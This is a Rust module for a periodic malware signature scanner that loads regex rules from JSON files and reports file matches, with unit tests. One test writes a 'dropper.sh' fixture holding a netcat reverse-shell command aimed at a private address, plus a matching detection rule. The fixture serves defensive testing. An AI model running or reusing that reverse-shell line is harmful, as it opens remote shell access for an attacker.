//! Signature Scanner
//!
//! Periodic content scan of the target directories against the signature
//! rule set. Rules are JSON files in the signature directory, each an array
//! of `{"name": ..., "pattern": ...}` regex entries, reloaded every sweep so
//! rule updates land without a restart.

use std::collections::HashSet;
use std::io::Read;
use std::path::{Path, PathBuf};
use std::time::Duration;

use once_cell::sync::Lazy;
use parking_lot::Mutex;
use regex::Regex;
use serde::Deserialize;

use crate::constants;
use crate::logic::event::Payload;
use crate::logic::pipeline;

const MODULE: &str = "yara_scan";

/// Upper bound on bytes read per scanned file
const MAX_SCAN_BYTES: usize = 1024 * 1024;

/// (path, rule) pairs already reported
static SEEN_MATCHES: Lazy<Mutex<HashSet<(PathBuf, String)>>> =
    Lazy::new(|| Mutex::new(HashSet::new()));

// ============================================================================
// RULES
// ============================================================================

#[derive(Debug, Deserialize)]
struct RuleEntry {
    name: String,
    pattern: String,
}

/// Compiled signature rule
pub struct SignatureRule {
    pub name: String,
    pub pattern: Regex,
}

/// Load and compile every rule file in the signature directory. Bad entries
/// are logged and skipped.
pub fn load_rules(dir: &Path) -> Vec<SignatureRule> {
    let mut rules = Vec::new();
    let Ok(entries) = std::fs::read_dir(dir) else {
        return rules;
    };
    for entry in entries.flatten() {
        let path = entry.path();
        if path.extension().map(|e| e != "json").unwrap_or(true) {
            continue;
        }
        let Ok(content) = std::fs::read_to_string(&path) else {
            continue;
        };
        let parsed: Vec<RuleEntry> = match serde_json::from_str(&content) {
            Ok(p) => p,
            Err(e) => {
                log::warn!("Bad signature file {:?}: {}", path, e);
                continue;
            }
        };
        for entry in parsed {
            match Regex::new(&entry.pattern) {
                Ok(pattern) => rules.push(SignatureRule {
                    name: entry.name,
                    pattern,
                }),
                Err(e) => log::warn!("Bad signature pattern '{}': {}", entry.name, e),
            }
        }
    }
    rules
}

// ============================================================================
// SCANNER
// ============================================================================

pub async fn run() {
    loop {
        let rules = load_rules(&constants::signature_dir());
        if rules.is_empty() {
            log::debug!("No signature rules loaded, skipping sweep");
        } else {
            for dir in constants::scan_dirs() {
                scan_tree(&dir, &rules);
            }
        }
        tokio::time::sleep(Duration::from_secs(constants::SIGNATURE_SCAN_INTERVAL_SECS)).await;
    }
}

fn scan_tree(dir: &Path, rules: &[SignatureRule]) {
    let Ok(entries) = std::fs::read_dir(dir) else {
        return;
    };
    for entry in entries.flatten() {
        let path = entry.path();
        if path.is_dir() {
            scan_tree(&path, rules);
            continue;
        }
        let matches = match_file(&path, rules);
        if matches.is_empty() {
            continue;
        }

        let key = (path.clone(), matches.join(","));
        if !SEEN_MATCHES.lock().insert(key) {
            continue;
        }
        pipeline::emit(
            MODULE,
            "YARA Match Detected",
            Payload::new()
                .with("file", path.to_string_lossy().to_string())
                .with("matches", matches),
        );
    }
}

/// Names of all rules matching the file's (capped) content
pub fn match_file(path: &Path, rules: &[SignatureRule]) -> Vec<String> {
    let Ok(file) = std::fs::File::open(path) else {
        return vec![];
    };
    let mut content = String::new();
    let mut reader = std::io::BufReader::new(file).take(MAX_SCAN_BYTES as u64);
    let mut bytes = Vec::new();
    if reader.read_to_end(&mut bytes).is_err() {
        return vec![];
    }
    content.push_str(&String::from_utf8_lossy(&bytes));

    rules
        .iter()
        .filter(|r| r.pattern.is_match(&content))
        .map(|r| r.name.clone())
        .collect()
}

// ============================================================================
// TESTS
// ============================================================================

#[cfg(test)]
mod tests {
    use super::*;
    use tempfile::TempDir;

    fn write_rules(dir: &Path) {
        std::fs::write(
            dir.join("test.json"),
            r#"[
                {"name": "eicar_like", "pattern": "EICAR-STANDARD-ANTIVIRUS-TEST"},
                {"name": "reverse_shell", "pattern": "(?i)nc\\s+-e\\s+/bin/sh"}
            ]"#,
        )
        .unwrap();
    }

    #[test]
    fn test_load_rules() {
        let temp = TempDir::new().unwrap();
        write_rules(temp.path());
        let rules = load_rules(temp.path());
        assert_eq!(rules.len(), 2);
    }

    #[test]
    fn test_bad_pattern_is_skipped() {
        let temp = TempDir::new().unwrap();
        std::fs::write(
            temp.path().join("bad.json"),
            r#"[{"name": "broken", "pattern": "("}]"#,
        )
        .unwrap();
        let rules = load_rules(temp.path());
        assert!(rules.is_empty());
    }

    #[test]
    fn test_match_file() {
        let temp = TempDir::new().unwrap();
        write_rules(temp.path());
        let rules = load_rules(temp.path());

        let target = temp.path().join("dropper.sh");
        std::fs::write(&target, "#!/bin/sh\nnc -e /bin/sh 10.0.0.1 4444\n").unwrap();

        let matches = match_file(&target, &rules);
        assert_eq!(matches, vec!["reverse_shell".to_string()]);
    }

    #[test]
    fn test_clean_file_no_matches() {
        let temp = TempDir::new().unwrap();
        write_rules(temp.path());
        let rules = load_rules(temp.path());

        let target = temp.path().join("notes.txt");
        std::fs::write(&target, "weekly status notes\n").unwrap();

        assert!(match_file(&target, &rules).is_empty());
    }
}
